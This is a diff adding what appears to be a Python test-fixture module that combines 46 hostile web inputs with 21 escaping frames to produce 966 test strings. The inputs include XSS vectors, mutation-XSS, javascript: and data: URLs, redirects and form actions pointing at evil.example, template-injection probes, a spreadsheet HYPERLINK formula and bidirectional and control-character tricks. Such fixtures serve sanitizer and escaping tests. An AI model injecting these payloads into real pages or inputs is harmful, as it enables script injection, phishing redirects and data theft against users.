@@ -1,0 +1,60 @@
+"""966 hostile texts: 46 that would act on a page or spoil it, each in 21 frames that would let it out of its place."""
+
+from itertools import product
+
+_ACT = "document.title='owned';window.owned=1"
+PAYLOADS = [
+    f"<script>{_ACT}</script>",
+    f'<img src=x onerror="{_ACT}">',
+    f"<svg onload={_ACT}>",
+    f"<svg/onload={_ACT}//",
+    f"<svg><script>{_ACT}</script></svg>",
+    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
+    f"<body onload={_ACT}>",
+    f"<details open ontoggle={_ACT}>",
+    f"<input autofocus onfocus={_ACT}>",
+    f"<video><source onerror={_ACT}></video>",
+    f"<marquee onstart={_ACT}>",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_ACT}>",
+    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
+    f"<template><script>{_ACT}</script></template>",
+    f"<iframe srcdoc='<script>parent.{_ACT}</script>'></iframe>",
+    f'<iframe src="javascript:{_ACT}"></iframe>',
+    f'<object data="javascript:{_ACT}"></object>',
+    f'<embed src="javascript:{_ACT}">',
+    f'<a href="javascript:{_ACT}">open</a>',
+    f"javascript:{_ACT}",
+    f"data:text/html,<script>{_ACT}</script>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<style>*{display:none}</style>",
+    "<form action='https://evil.example/'><button>approve</button></form>",
+    "<button formaction='https://evil.example/'>halt</button>",
+    "</table></div></main></body></html>",
+    "</textarea></title></style></script></noscript>",
+    "</pre></details></section></article>",
+    "<plaintext>",
+    "<!--",
+    "--><!DOCTYPE html>",
+    "<![CDATA[ ]]>",
+    "{{7*7}}{% raw %}{{''.__class__}}{# #}",
+    "${7*7}<%= 7*7 %>#{7*7}",
+    "&lt;script&gt;&#x3c;script&#x3e;&NewLine;&colon;",
+    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 40,
+    "A" * 3000,
+    "W" * 400 + " " + "m" * 400,
+    "\u0301" * 300 + "Z",
+    "\u202eevil\u202c\u2066x\u2069\u200f",
+    "\ufdfd" * 60,
+    "\x1b[2J\x07\x00\x08\r",
+    "\u2028\u2029\x85\x0b\x0c\n" * 20,
+    "=HYPERLINK('https://evil.example')",
+]
+FRAMES = [
+    "{0}", '"{0}"', "'{0}'", '">{0}', "'>{0}", "`{0}`", '" {0} x="', "' {0} x='", "</q>{0}", "</span></td>{0}",
+    "</title>{0}", "</script>{0}", "--!>{0}", "]]>{0}", '\\"{0}', "&quot;{0}", "\x00{0}", "x\n\n{0}\n",
+    "[price.price.last] {0}", "123.45 [{0}]", "{0}{0}",
+]  # fmt: skip
+TEXTS = [frame.replace("{0}", payload) for payload, frame in product(PAYLOADS, FRAMES)]
+"""Every payload in every frame."""
